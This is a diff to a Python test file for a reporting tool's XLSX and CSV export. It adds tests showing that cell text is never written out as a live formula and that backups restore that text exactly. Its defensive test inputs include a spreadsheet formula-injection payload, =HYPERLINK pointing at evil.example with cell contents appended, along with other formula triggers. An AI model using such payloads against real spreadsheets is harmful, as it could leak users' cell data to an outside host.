@@ -23,6 +23,7 @@ from openpyxl import Workbook, load_workbook
 from outputs import export, i18n, pack, xlsx
 from tracking import reported as rep
 from tracking import reported_import as imp
+from tracking.cells import csv_quote_formula, csv_unquote_formula, formula_like
 
 TODAY = date(2024, 9, 1)
 ATTACKS = ['=HYPERLINK("http://evil.example/?x="&A1,"点击查看")', "+1+2", "-2+3", "@SUM(A1:A9)",
@@ -89,7 +90,7 @@ def test_ledger_download_of_hostile_rows_holds_no_formula():
     book = export.frame_to_xlsx(table)
     assert formula_xml(book) == []
     assert {c.value for c in cells(book)} >= {"=1+1", ATTACKS[0], "-2+3", "\t=x"}
-    assert all(not imp.formula_like(cell) for cell in csv_cells(export.frame_to_csv(table)))
+    assert all(not formula_like(cell) for cell in csv_cells(export.frame_to_csv(table)))
     completion = table[i18n.t("col.completion")]
     assert completion[0] == -25.0 and pd.isna(completion[1])  # a number, even negative
 
@@ -145,7 +146,7 @@ def test_no_text_ever_becomes_a_live_formula(text, dressed):
         texts = [c.value.replace("\r\n", "\n").replace("\r", "\n") for c in found if c.data_type == "s"]
         assert texts == [expected, expected]
     assert -1.0 in [c.value for c in found]
-    assert not any(imp.formula_like(cell) for cell in csv_cells(export.frame_to_csv(frame)))
+    assert not any(formula_like(cell) for cell in csv_cells(export.frame_to_csv(frame)))
 
 
 # --- reading -----------------------------------------------------------------------------------
@@ -221,3 +222,26 @@ def test_exported_csv_with_a_quoted_formula_imports_as_written(store):
     assert report.ok, report.problems
     latest = rep.latest_reported(store["reported_db"])
     assert (latest.loc[0, "note"], latest.loc[0, "value"]) == ("=统计局口径", -2.0)
+
+
+@given(st.text(max_size=20))
+def test_quoting_a_csv_cell_is_undone_exactly(text):
+    """Property: the import (and a restore) reads back exactly the text the export wrote, and the
+    written cell is never formula-like — even for text that already starts with ' (``'=x``)."""
+    quoted = csv_quote_formula(text)
+    assert csv_unquote_formula(quoted) == text
+    assert not formula_like(quoted)
+
+
+def test_backup_csv_of_a_hostile_note_holds_no_formula_and_restores_as_written(tmp_path):
+    store = tmp_path / "reported.duckdb"
+    notes = ["=HYPERLINK(\"http://evil.example\")", "'=已加引号", "多行\r=1+1", "-2+3"]
+    rep.save_values(store, pd.DataFrame({"target_id": [f"t-{i}" for i in range(4)], "period": ["2024"] * 4,
+                                         "value": [-1.5, 2.0, 3.0, 4.0], "note": notes}), account="甲", how="cli")
+    out = rep.backup_reported(store, tmp_path / "backup")
+    assert not any(formula_like(c) for c in csv_cells((out / "reported_values.csv").read_bytes()))
+    for name in rep.BACKUP_TABLES:
+        (out / f"{name}.parquet").unlink()   # restore from the CSVs alone
+    rep.restore_reported(out, tmp_path / "restored.duckdb")
+    restored = rep.latest_reported(tmp_path / "restored.duckdb")
+    assert restored["note"].tolist() == notes and restored["value"].tolist() == [-1.5, 2.0, 3.0, 4.0]
